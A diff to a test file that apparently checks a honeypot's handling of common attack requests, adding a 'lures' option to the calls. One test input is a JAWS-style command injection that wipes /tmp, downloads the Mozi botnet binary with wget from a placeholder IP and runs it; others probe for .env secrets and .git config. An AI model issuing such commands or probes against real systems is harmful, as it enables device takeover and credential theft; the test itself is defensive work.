@@ -117,7 +117,7 @@ describe('W1: what is attacked most', () => {
     ['dotenv', get('/.env'), 'AWS_SECRET_ACCESS_KEY='],
     ['git', get('/.git/config'), '[remote "origin"]'],
   ])('%s', async (lure, bytes, expected) => {
-    const { answer, bodies, status } = await ask(bytes);
+    const { answer, bodies, status } = await ask(bytes, { lures: [lure] });
     expect(status).toBe(200);
     expect(answer).toContain(expected);
     expect(bodies[0]).toMatchObject({ kind: 'request', status: 200, detail: { lure } });
@@ -126,6 +126,7 @@ describe('W1: what is attacked most', () => {
   it('runs what JAWS and GPON would run, and tells where from they would fetch', async () => {
     const jaws = await ask(
       get('/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.1:80/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws'),
+      { lures: ['jaws'] },
     );
     expect(jaws.bodies).toMatchObject([
       { kind: 'request', status: 200, detail: { lure: 'jaws' } },
